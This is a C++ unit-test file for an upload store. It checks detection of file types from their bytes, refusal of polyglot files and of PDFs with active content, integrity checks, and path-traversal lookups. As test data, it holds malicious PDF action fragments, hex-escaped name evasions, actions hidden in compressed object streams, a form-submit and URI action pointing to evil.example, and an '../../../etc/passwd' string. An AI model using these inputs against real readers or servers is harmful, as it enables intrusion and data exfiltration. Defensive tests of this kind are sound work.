// SPDX-License-Identifier: Apache-2.0
#include "platform/files/files.hpp"

#include <gtest/gtest.h>
#include <libdeflate.h>

#include <fstream>

#include "platform/files/messages.hpp"
#include "platform/i18n/i18n.hpp"

namespace wasl::files {

namespace {

namespace fs = std::filesystem;

std::string big_endian(std::uint32_t number) {
    std::string out;
    for (int shift = 24; shift >= 0; shift -= 8) out += static_cast<char>(number >> shift & 255);
    return out;
}

std::string chunk(std::string const& kind, std::string const& data) {
    auto const body = kind + data;
    return big_endian(static_cast<std::uint32_t>(data.size())) + body +
           big_endian(libdeflate_crc32(0, body.data(), body.size()));
}

std::string packed(std::string const& text) {
    auto* const packer = libdeflate_alloc_compressor(6);
    std::string out(libdeflate_zlib_compress_bound(packer, text.size()), '\0');
    out.resize(libdeflate_zlib_compress(packer, text.data(), text.size(), out.data(), out.size()));
    libdeflate_free_compressor(packer);
    return out;
}

std::string png(std::uint32_t width = 1, std::uint32_t height = 1) {
    return "\x89PNG\r\n\x1A\n" +
           chunk("IHDR", big_endian(width) + big_endian(height) + std::string("\x08\0\0\0\0", 5)) +
           chunk("IDAT", packed(std::string("\0\0", 2))) + chunk("IEND", "");
}

// A frame of one pixel and a scan of one byte: enough for the walk from mark to mark.
std::string jpeg() {
    std::string const start("\xFF\xD8\xFF\xE0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0", 20);
    std::string const frame("\xFF\xC0\x00\x0B\x08\0\1\0\1\1\1\x11\0", 13);
    std::string const scan("\xFF\xDA\x00\x08\1\1\0\0\x3F\0", 10);
    return start + frame + scan + "\x55\xFF" + std::string(1, '\0') + "\x55\xFF\xD9";
}

std::string pdf(std::string const& object) {
    return "%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + object +
           " >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n";
}

std::string zip() {
    auto const entry = std::string("PK\1\2", 4) + std::string(42, '\0');
    auto const end = std::string("PK\5\6\0\0\0\0\1\0\1\0", 12) + std::string("\x2E\0\0\0", 4) +
                     std::string("\0\0\0\0\0\0", 6);
    return entry + end;
}

class Files : public testing::Test {
protected:
    fs::path folder = fs::path(testing::TempDir()) /
                      ("wasl_files_" +
                       std::string(testing::UnitTest::GetInstance()->current_test_info()->name()));
    Files() { fs::remove_all(folder); }
    ~Files() override { fs::remove_all(folder); }

    Result<Stored> keep(Store& store, std::string const& bytes) {
        auto const upload = store.incoming() / "upload";
        std::ofstream(upload, std::ios::binary) << bytes;
        auto kept = store.keep(upload, "وثيقة");
        EXPECT_FALSE(fs::exists(upload)) << "the temporary file is gone, kept or refused";
        return kept;
    }

    Message const* reason(std::string const& bytes) {
        Store store(folder);
        auto const kept = keep(store, bytes);
        return kept.refused() ? kept.refusal().what.message : nullptr;
    }
};

TEST_F(Files, keeps_one_copy_of_a_document_under_the_hash_of_its_bytes) {
    Store store(folder);
    auto const first = keep(store, pdf(""));
    auto const second = keep(store, pdf(""));
    ASSERT_FALSE(first.refused());
    ASSERT_FALSE(second.refused());
    EXPECT_EQ(first.value().kind, Kind::pdf);
    EXPECT_EQ(first.value().size, static_cast<std::int64_t>(pdf("").size()));
    EXPECT_EQ(first.value().sha256, second.value().sha256);

    auto const path = store.find(first.value().sha256);
    ASSERT_TRUE(path);
    EXPECT_EQ(sha256_of(*path), first.value().sha256);
    EXPECT_TRUE(store.holds(first.value().sha256));

    std::ofstream(*path, std::ios::app) << "x";
    EXPECT_FALSE(store.holds(first.value().sha256)) << "a changed file is not what its name says";
    store.erase_older(first.value().sha256, Instant::max());
    EXPECT_FALSE(store.find(first.value().sha256));
}

TEST_F(Files, tells_the_kind_from_the_bytes_and_not_from_the_name) {
    Store store(folder);
    EXPECT_EQ(keep(store, jpeg()).value().kind, Kind::jpeg);
    EXPECT_EQ(keep(store, png()).value().kind, Kind::png);
    EXPECT_EQ(reason("GIF89a..."), &msg::refused_kind);
    for (auto const* const tiny : {"M", "MZ", "MZ\1", "\1\1\1\1ftyp"})
        EXPECT_EQ(reason(tiny), &msg::refused_kind) << "too short to be anything";
    EXPECT_EQ(reason(zip()), &msg::refused_kind);
    EXPECT_EQ(reason(" " + pdf("")), &msg::refused_kind);
    EXPECT_EQ(reason(""), &msg::refused_empty);
    EXPECT_EQ(reason(std::string("\0\0\0\x18", 4) + "ftypheic" + std::string(12, '\0')),
              &msg::refused_heic);
}

TEST_F(Files, refuses_a_file_that_is_two_things_at_once) {
    EXPECT_EQ(reason(pdf("") + zip()), &msg::refused_two_kinds);
    EXPECT_EQ(reason(jpeg() + zip()), &msg::refused_two_kinds);
    EXPECT_EQ(reason(png() + zip()), &msg::refused_two_kinds);
    EXPECT_EQ(reason("\xFF\xD8\xFF\xE0 %PDF-1.7" + jpeg()), &msg::refused_two_kinds);
    EXPECT_EQ(reason("%PDF-1.7\n<html><script>" + pdf("")), &msg::refused_two_kinds);
}

TEST_F(Files, refuses_a_pdf_that_acts_by_itself_however_it_spells_it) {
    EXPECT_EQ(reason(pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
              &msg::refused_active_pdf);
    EXPECT_EQ(reason(pdf("/OpenAction << /S /J#61va#53cript >>")), &msg::refused_active_pdf);
    EXPECT_EQ(reason(pdf("/OpenAction << /S /Launch >>")), &msg::refused_active_pdf);
    EXPECT_EQ(reason(pdf("/Names << /EmbeddedFiles 3 0 R >>")), &msg::refused_active_pdf);
    EXPECT_EQ(reason(pdf("/Encrypt 4 0 R")), &msg::refused_locked_pdf);
    auto const hidden = packed("5 0 << /S /JavaScript /JS (x) >>");
    EXPECT_EQ(reason(pdf(">>\nendobj\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" +
                         hidden + "\nendstream")),
              &msg::refused_active_pdf);
    auto const harmless = packed("5 0 << /Type /Pages /Launcher 1 >>");
    EXPECT_EQ(reason(pdf(">>\nendobj\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" +
                         harmless + "\nendstream")),
              nullptr);
    EXPECT_EQ(reason(pdf("/OpenAction [1 0 R /Fit]")), nullptr);
}

TEST_F(Files, refuses_a_pdf_that_sends_fetches_or_plays_when_it_is_opened) {
    for (std::string_view const active :
         {"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>", "/AA 7 0 R",
          "/#41A<</C 8 0 R>>", "/A << /S /GoToR /F (//evil/x.pdf) >>", "/A << /S /GoToE >>",
          "/A << /S /ImportData >>", "/A << /S /Rendition >>", "/Subtype /Movie", "/S /Sound",
          "/OpenAction << /S /URI /URI (https://evil.example/) >>",
          "/OpenAction << /Next 5 0 R /S /Named /N /Print >>", "/OpenAction 9 0 R",
          "/OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /URI /URI (https://evil.example/)"})
        EXPECT_EQ(reason(pdf(std::string(active))), &msg::refused_active_pdf) << active;
    for (std::string_view const quiet :
         {"/OpenAction << /S /GoTo /D [1 0 R /Fit] >>", "/Lang (AA) /AAPL true",
          "/OpenAction 2 0 R >>\nendobj\n2 0 obj\n[1 0 R /XYZ 0 0 0] <<",
          "/OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /GoTo /D [1 0 R /Fit]"})
        EXPECT_EQ(reason(pdf(std::string(quiet))), nullptr) << quiet;
}

TEST_F(Files, follows_what_is_done_on_opening_into_packed_objects) {
    auto const with = [](std::string const& action) {
        return pdf(
            "/OpenAction 6 0 R >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 2 /First 9 "
            "/Filter /FlateDecode >>\nstream\n" +
            packed("5 0 6 4  [ 1]" + action) + "\nendstream");
    };
    EXPECT_EQ(reason(with("<< /S /GoTo /D [1 0 R /Fit] >>")), nullptr);
    EXPECT_EQ(reason(with("<< /S /URI /URI (https://evil.example/) >>")), &msg::refused_active_pdf);
}

TEST_F(Files, refuses_what_did_not_arrive_whole) {
    for (auto const& [whole, why] : {std::pair{pdf(""), &msg::refused_broken_pdf},
                                     std::pair{jpeg(), &msg::refused_broken_image},
                                     std::pair{png(), &msg::refused_broken_image}})
        EXPECT_EQ(reason(whole.substr(0, whole.size() - 8)), why);
    auto damaged = png();
    damaged[20] = static_cast<char>(damaged[20] ^ 1);
    EXPECT_EQ(reason(damaged), &msg::refused_broken_image);
    EXPECT_EQ(reason(png(20'000, 20'000)), &msg::refused_too_many_pixels);
}

TEST_F(Files, finds_nothing_under_a_name_that_is_no_hash) {
    Store const store(folder);
    EXPECT_FALSE(store.find("../../../etc/passwd"));
    EXPECT_FALSE(store.find(""));
    EXPECT_FALSE(store.find(std::string(64, 'A')));
}

// Where a translator types a plain space, the line could break before a colon.
TEST(Messages, in_French_keep_their_signs_on_the_line) {
    auto const said = i18n::sentence(Language::fr, say(msg::refused_heic));
    EXPECT_NE(said.find("Sur iPhone\u00A0: Réglages"), std::string::npos) << said;
    EXPECT_NE(said.find("«\u00A0Le plus compatible\u00A0»"), std::string::npos) << said;
    EXPECT_NE(said.find("photo\u00A0; ou"), std::string::npos) << said;
    auto const arabic = i18n::sentence(Language::ar, say(msg::refused_heic));
    EXPECT_EQ(arabic.find("\u00A0"), std::string::npos) << arabic;
}

}  // namespace

}  // namespace wasl::files
